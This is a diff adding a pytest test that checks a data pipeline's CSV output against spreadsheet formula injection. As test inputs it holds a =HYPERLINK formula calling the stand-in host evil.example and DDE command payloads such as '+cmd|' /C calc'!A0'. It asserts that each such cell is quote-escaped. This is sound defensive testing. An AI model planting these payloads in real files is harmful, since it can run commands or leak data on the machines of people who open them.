@@ -197,3 +197,33 @@ def test_headerless_reference_table_puts_no_row_content_on_stderr(tmp_path, caps
     err = capsys.readouterr().err
     assert _leaks(err) == []
     assert "Reference table consents cannot be read" in err and "is the header row missing?" in err
+
+
+# --- CSV injection: no CSV under <out> holds a cell a spreadsheet would run (issue 13, row 22) --
+
+def test_no_csv_cell_under_out_can_run_as_a_formula(tmp_path):
+    from tests.landing import REFERENCE
+
+    hyperlink = '=HYPERLINK("http://evil.example/?q=1","open")'
+    contracts = [dict(REFERENCE["contracts"][0], agency_name=hyperlink)]
+    make_landing(tmp_path / "landing", {DAY: {"AG01": [
+        call("=1+2", "2026-11-27 10:00:00", agent_id="@SUM(A1)", campaign_id="+cmd|' /C calc'!A0"),
+        call("-2+3+cmd|' /C calc'!A0", "2026-11-27 11:00:00", disposition="=1+2"),      # quarantined
+    ]}}, contracts=contracts)
+    assert _run_cli(tmp_path) == 0
+    report = tmp_path / "out" / DAY.isoformat()
+    cells = {}
+    for path in sorted((tmp_path / "out").rglob("*.csv")):
+        with path.open(newline="", encoding="utf-8") as handle:
+            cells[path.name] = [cell for row in csv.reader(handle) for cell in row]
+    assert set(cells) == {"violations.csv", "quarantine.csv", "scores.csv"}
+    runnable = {name: [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                       and not re.fullmatch(r"[+-]?\d+(\.\d*)?(e[+-]?\d+)?|\+\d{1,3} [\d*]+", c)]
+                for name, found in cells.items()}
+    assert {name: found for name, found in runnable.items() if found} == {}
+    assert {"'=1+2", "'@SUM(A1)", "'+cmd|' /C calc'!A0"} <= set(cells["violations.csv"])
+    assert "+86 138****5678" in cells["violations.csv"]                     # the audit's masked phone as is
+    assert {"'-2+3+cmd|' /C calc'!A0"} <= set(cells["quarantine.csv"])
+    assert any(c.startswith("'-2+3+cmd") and "=1+2" in c for c in cells["quarantine.csv"])   # raw
+    assert "'" + hyperlink in cells["scores.csv"]
+    assert cli(["verify", str(report)]) == 0
